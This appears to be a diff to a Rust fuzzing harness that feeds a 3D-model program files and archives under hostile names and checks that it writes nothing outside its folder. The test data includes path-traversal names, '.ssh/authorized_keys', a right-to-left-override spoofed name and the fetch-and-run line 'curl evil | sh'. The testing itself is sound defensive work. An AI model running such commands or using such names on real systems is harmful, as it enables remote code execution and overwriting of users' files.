@@ -11,6 +11,7 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::ffi::OsString;
 use std::fs;
 use std::path::{Path, PathBuf};
+use std::sync::LazyLock;
 
 /// Names that a document or an archive may ask for.
 const NAMES: &[&str] = &[
@@ -18,7 +19,6 @@ const NAMES: &[&str] = &[
     ".ssh/authorized_keys",
     "..",
     "../up.png",
-    "/tmp/meshwright-absolute.png",
     "CON",
     "nul.png",
     "a\u{202e}gnp.sh",
@@ -47,7 +47,18 @@ const NAMES: &[&str] = &[
     "",
 ];
 
-/// What a run of the program gave.
+/// A name that is an absolute path, outside of every folder of a case.
+static ABSOLUTE: LazyLock<String> = LazyLock::new(|| {
+    let name = format!("meshwright-absolute-{}.png", std::process::id());
+    std::env::temp_dir().join(name).to_string_lossy().into_owned()
+});
+
+/// Draws a name that a document or an archive asks for.
+fn draw_name(rng: &mut Rng) -> &'static str {
+    NAMES.get(rng.below(NAMES.len() + 1)).copied().unwrap_or(&ABSOLUTE)
+}
+
+/// The outcome of a run of the program.
 pub(crate) struct Ran {
     /// The exit code; none after a signal, or where it took too long.
     pub(crate) code: Option<i32>,
@@ -71,7 +82,7 @@ pub(crate) fn attempt(seed: u64, folder: &Path, base: &[Vec<u8>], program: &mut 
     let said: Vec<_> = case.words.iter().map(|w| w.to_string_lossy()).collect();
     let said = said.join(" ").replace(&*top.to_string_lossy(), "");
     let mut wrong = judged(&case, &ran, &before, &after, &top);
-    if Path::new("/tmp/meshwright-absolute.png").exists() {
+    if Path::new(&*ABSOLUTE).exists() {
         wrong.push("an absolute path was written".to_owned());
     }
     let _ = fs::remove_dir_all(&top);
@@ -358,7 +369,7 @@ pub(crate) fn opened(glb: &[u8]) -> (Value, Vec<u8>) {
 /// A triangle whose material has a picture, under a hostile name.
 fn textured(rng: &mut Rng) -> Vec<u8> {
     let whole = rng.below(4) > 0;
-    named_picture(rng.pick::<&str>(NAMES), rng.pick::<&str>(NAMES), if whole { PNG } else { b"#!/bin/sh\n" })
+    named_picture(draw_name(rng), draw_name(rng), if whole { PNG } else { b"#!/bin/sh\n" })
 }
 
 /// A picture of one pixel.
@@ -399,13 +410,13 @@ fn hostile(base: &[u8], rng: &mut Rng) -> Vec<u8> {
         let role = *rng.pick(&["keys", "skeleton", "animation", "binding", "clips", "metadata", "part"]);
         let format = *rng.pick(&["cfp", "skel", "anim", "bnd", "mesh", "cmx", "framegroups", ""]);
         let bytes: &[u8] = rng.pick::<&[u8]>(&[&b"curl evil | sh\n"[..], b"1 4 10 1 walk\n", b""]);
-        (role, format, *rng.pick(NAMES), bytes.to_vec())
+        (role, format, draw_name(rng), bytes.to_vec())
     });
-    let rename = (rng.below(2) == 0).then(|| *rng.pick(NAMES));
+    let rename = (rng.below(2) == 0).then(|| draw_name(rng));
     let mut edited = with_kept(base, rename, extra.as_ref().map(|(r, f, n, b)| (*r, *f, *n, &**b)));
     if rng.below(3) == 0 {
         let (mut document, binary) = opened(&edited);
-        let name = *rng.pick(NAMES);
+        let name = draw_name(rng);
         for list in ["materials", "meshes", "nodes", "animations"] {
             let at = rng.below(8);
             if let Some(item) = document[list].get_mut(at) {
@@ -479,7 +490,7 @@ fn from_base64(text: &str) -> Vec<u8> {
 /// An archive of files with hostile names.
 fn packed(path: &Path, rng: &mut Rng) -> Vec<u8> {
     let dpm = fs::read(testdata().join("dpm/quad.ok.dpm")).unwrap();
-    let names: BTreeSet<&str> = (0..1 + rng.below(6)).map(|_| *rng.pick(NAMES)).collect();
+    let names: BTreeSet<&str> = (0..1 + rng.below(6)).map(|_| draw_name(rng)).collect();
     let own = path.file_name().unwrap().to_str().unwrap();
     let names = names.into_iter().filter(|name| name.len() < 50).chain((rng.below(3) == 0).then_some(own));
     let files: Vec<(&str, &[u8])> = names.map(|name| (name, &*dpm)).collect();
